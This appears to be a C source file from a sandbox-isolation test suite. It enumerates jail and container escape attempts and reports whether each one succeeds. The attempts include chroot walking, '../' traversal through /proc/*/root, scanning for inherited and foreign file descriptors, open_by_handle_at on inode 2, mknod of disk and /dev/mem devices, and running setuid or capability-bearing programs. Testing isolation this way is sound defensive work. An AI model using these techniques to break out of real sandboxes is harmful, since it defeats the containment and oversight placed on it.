/* path.c - ways out by files: paths, descriptors, devices, programs */
/* SPDX-License-Identifier: 0BSD */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

/* "../" thirty times and the marker's path. */
static const char *up(const char *from)
{
	static char path[4096];
	size_t used = (size_t)snprintf(path, 1024, "%s", from);
	int i;

	for (i = 0; i < 30; i++)
		used += (size_t)sprintf(path + used, "../");
	snprintf(path + used, sizeof path - used, "%s", host("MARKER") + 1);
	return path;
}

/* Shows that the program runs in this set-up at all. */
static int alive(void)
{
	return is_open("uid %d", (int)getuid());
}

static int marker_path(void)
{
	return verdict(root_is_host());
}

static int cwd_up(void)
{
	return verdict(sees_marker(AT_FDCWD, up("")));
}

static int proc_self_root(void)
{
	return verdict(sees_marker(AT_FDCWD, up("/proc/self/root/")) ||
		       sees_marker(AT_FDCWD, up("/proc/self/cwd/")));
}

/* For each process: PREFIX/NAME of it, as a way to the marker. */
static int over_processes(const char *name)
{
	char path[320];
	struct dirent *e;
	DIR *d = opendir("/proc");

	if (!d)
		return untried("no /proc");
	while ((e = readdir(d))) {
		if (*e->d_name < '0' || *e->d_name > '9')
			continue;
		snprintf(path, sizeof path, "/proc/%s/%s/", e->d_name, name);
		if (sees_marker(AT_FDCWD, up(path)))
			return is_open("%s", path);
	}
	closedir(d);
	return is_held("none leads there");
}

static int proc_root(void)
{
	return over_processes("root");
}

static int proc_cwd(void)
{
	return over_processes("cwd");
}

static int inherited_fd(void)
{
	int fd;

	for (fd = 0; fd < 1024; fd++)
		if (sees_marker(fd, "marker") || sees_marker(fd, up("")))
			return is_open("descriptor %d", fd);
	return is_held("no directory");
}

static int fds_of(const char *pid)
{
	char path[640];
	struct dirent *e;
	DIR *d;
	int found = 0;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && !found && (e = readdir(d))) {
		snprintf(path, sizeof path, "/proc/%s/fd/%s/marker", pid,
			 e->d_name);
		found = *e->d_name != '.' && sees_marker(AT_FDCWD, path);
	}
	if (d)
		closedir(d);
	return found;
}

static int proc_fds(void)
{
	struct dirent *e;
	DIR *d = opendir("/proc");

	if (!d)
		return untried("no /proc");
	while ((e = readdir(d)))
		if (*e->d_name >= '0' && *e->d_name <= '9' && fds_of(e->d_name))
			return is_open("of process %s", e->d_name);
	closedir(d);
	return is_held("none leads there");
}

static int chroot_walk(void)
{
	int i;

	mkdir("/tmp/walk", 0755);
	if (chroot("/tmp/walk"))
		return is_held("chroot: %s", strerror(errno));
	for (i = 0; i < 64; i++)
		if (chdir(".."))
			return is_held("chdir: %s", strerror(errno));
	if (chroot("."))
		return is_held("chroot: %s", strerror(errno));
	return root_is_host() ? is_open("the host's root")
			      : is_held("stops at the jail's root");
}

/* Inode 2 of a disk's file system is its root. */
static int file_handle(void)
{
	struct {
		struct file_handle head;
		unsigned ino, gen;
	} fh = {{.handle_bytes = 8, .handle_type = 1}, 2, 0};
	int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(mount, &fh.head, O_RDONLY | O_CLOEXEC);

	if (fd < 0 && errno == ESTALE)
		return untried("another kind of file system");
	if (fd < 0)
		return is_held("%s", strerror(errno));
	return sees_marker(fd, host("MARKER") + 1) ? is_open("inode 2")
						   : is_open("a foreign inode");
}

static int open_device(const char *path, mode_t type, const char *dev)
{
	int major = 0, minor = 0, fd;

	if (sscanf(dev, "%d:%d", &major, &minor) != 2)
		return untried("not told which");
	unlink(path);
	if (mknod(path, type | 0666, makedev(major, minor)))
		return is_held("mknod: %s", strerror(errno));
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0 && errno == ENXIO)
		return untried("no such device here");
	return fd < 0 ? is_held("open: %s", strerror(errno))
		      : is_open("opened");
}

static int mknod_disk(void)
{
	return open_device("/tmp/disk", S_IFBLK, host("DISK"));
}

static int mknod_mem(void)
{
	return open_device("/tmp/mem", S_IFCHR, "1:1");
}

static int mknod_kmsg(void)
{
	return open_device("/tmp/kmsg", S_IFCHR, "1:11");
}

static int shipped_disk(void)
{
	char path[4200];
	int fd = open(host("SHIPPED"), O_RDONLY | O_CLOEXEC);

	/* The control stands outside of the root. */
	snprintf(path, sizeof path, "%s%s", host("ROOT"), host("SHIPPED"));
	if (fd < 0 && errno == ENOENT)
		fd = open(path, O_RDONLY | O_CLOEXEC);
	return verdict(fd >= 0);
}

/* Runs a privileged program of the root; it says what it has got. */
static int run_privileged(const char *path)
{
	int status;
	pid_t pid;

	if (!geteuid())
		return untried("is root already");
	pid = fork();
	if (!pid) {
		execl(path, path, (char *)NULL);
		_exit(98);
	}
	waitpid(pid, &status, 0);
	if (status == 98 << 8)
		return is_held("does not run");
	return status == 42 << 8 ? is_open("privileged")
				 : is_held("runs without privileges");
}

static int setuid_program(void)
{
	return run_privileged("/suid");
}

static int filecap_program(void)
{
	return run_privileged("/fcap");
}

static int trojan(void)
{
	return access("/trojan-ran", F_OK)
		       ? is_held("no program of the root ran")
		       : is_open("one ran while the jail was built");
}

/* The root's /proc was a link to a directory of the host: stage.c looks. */
static int tree_symlink(void)
{
	return is_held("built inside");
}

static int tree_forged_proc(void)
{
	struct statfs fs;

	if (statfs("/proc", &fs) || fs.f_type != 0x9fa0)
		return untried("this set-up mounts no proc");
	return is_held("the real one is mounted");
}

const struct attempt path_attempts[] = {
	{"alive", alive},
	{"marker-path", marker_path},
	{"cwd-up", cwd_up},
	{"proc-self-root", proc_self_root},
	{"proc-root", proc_root},
	{"proc-cwd", proc_cwd},
	{"inherited-fd", inherited_fd},
	{"proc-fds", proc_fds},
	{"chroot-walk", chroot_walk},
	{"file-handle", file_handle},
	{"mknod-disk", mknod_disk},
	{"mknod-mem", mknod_mem},
	{"mknod-kmsg", mknod_kmsg},
	{"shipped-disk", shipped_disk},
	{"setuid-program", setuid_program},
	{"filecap-program", filecap_program},
	{"trojan", trojan},
	{"tree-symlink", tree_symlink},
	{"tree-forged-proc", tree_forged_proc},
	{NULL, NULL},
};
